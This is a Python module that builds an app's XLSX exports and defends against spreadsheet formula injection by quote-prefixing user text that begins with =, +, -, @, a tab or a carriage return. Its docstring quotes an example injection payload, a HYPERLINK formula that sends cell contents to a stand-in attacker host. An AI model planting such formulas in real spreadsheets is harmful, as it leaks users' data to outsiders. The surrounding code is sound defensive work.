"""The one way the app writes XLSX files: every cell from user data is inert text.

A value a user typed (a unit name, a chair's address) can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return; a spreadsheet would take it for a formula
(``=HYPERLINK("http://evil.example/?leak="&A1)``) when the file is opened, or when a
reader edits the cell, or once the sheet is saved as CSV. As OWASP recommends for
CSV/XLSX injection, such a text is prefixed with a single quote, and a cell is never
written as a formula. Every export builds its workbook, rows and cells here
(``tests/test_xlsx.py`` fails if any other module writes a workbook itself).
"""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO
from typing import TYPE_CHECKING, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISING_PREFIX = "'"


def neutralise(value: Any) -> Any:
    """``"=1+1"`` → ``"'=1+1"``; numbers, dates and other text are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISING_PREFIX + value
    return value


def restore(text: str) -> str:
    """The inverse of ``neutralise`` for text read back from an export (an import of
    an exported list gets the values that were exported, not the quoted ones)."""
    if text.startswith(NEUTRALISING_PREFIX) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def workbook() -> Workbook:
    """A write-only workbook: rows are streamed, so a large export stays small in memory."""
    return Workbook(write_only=True)


def cell(ws: WriteOnlyWorksheet, value: Any, style: str | None = None) -> Cell:
    """A styled cell holding ``value`` as data, never as a formula."""
    written = WriteOnlyCell(ws, value=neutralise(value))
    if written.data_type == "f":
        # openpyxl takes any text starting with "=" as a formula; neutralise() already
        # prefixed such text, so this only guards against a future change of the triggers.
        written.data_type = "s"
    if style is not None:
        written.style = style
    return written


def append(ws: WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append a row of plain values or cells made by ``cell``; text is neutralised."""
    ws.append([value if isinstance(value, Cell) else neutralise(value) for value in values])


def to_bytes(wb: Workbook) -> bytes:
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()
